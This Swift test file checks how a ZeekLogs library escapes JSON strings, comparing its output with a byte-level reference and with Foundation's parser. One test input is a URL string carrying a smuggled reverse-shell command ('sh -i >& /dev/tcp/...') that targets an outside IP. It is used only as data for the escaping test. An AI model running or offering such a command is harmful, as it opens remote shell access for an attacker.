import Foundation
import Testing
import ZeekLogs

/// JSON string literals as Zeek's JSON writer escapes them, against a byte-at-a-time reference and
/// Foundation's parser.
@Suite("Zeek JSON strings")
struct ZeekJSONStringTests {
    /// The plain rule, one byte at a time: `"` and `\` backslashed, `\n` `\r` `\t` by letter, other
    /// control bytes and DEL as `\u00nn`, everything else (UTF-8 included) as it is.
    static func reference(_ text: String) -> [UInt8] {
        var output: [UInt8] = [0x22]
        for byte in text.utf8 {
            switch byte {
            case 0x22, 0x5c: output += [0x5c, byte]
            case 0x0a: output += Array(#"\n"#.utf8)
            case 0x0d: output += Array(#"\r"#.utf8)
            case 0x09: output += Array(#"\t"#.utf8)
            case 0..<0x20, 0x7f: output += Array(String(format: "\\u%04x", byte).utf8)
            default: output.append(byte)
            }
        }
        return output + [0x22]
    }

    static func encoded(_ text: String) -> [UInt8] {
        var output: [UInt8] = [0x7b]  // something already in the buffer stays
        ZeekJSONText.appendString(text, to: &output)
        #expect(output.first == 0x7b)
        return Array(output.dropFirst())
    }

    @Test func everyASCIIByteAloneAndBetweenText() throws {
        for value in UInt8(0)...0x7f {
            let byte = String(decoding: [value], as: UTF8.self)
            for text in [byte, "a\(byte)", "\(byte)b", "ab\(byte)\(byte)cd"] {
                let bytes = Self.encoded(text)
                #expect(bytes == Self.reference(text), "byte \(value)")
                let parsed = try JSONSerialization.jsonObject(with: Data(bytes), options: [.fragmentsAllowed]) as? String
                #expect(parsed == text, "byte \(value)")
            }
        }
    }

    @Test func emptyUnicodeAndLongRuns() {
        for text in ["", "www.example.com", "/dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1",
                     "naïve ☃ 𝄞", String(repeating: "x", count: 10_000) + "\"" + String(repeating: "y", count: 3)] {
            #expect(Self.encoded(text) == Self.reference(text))
        }
    }
}
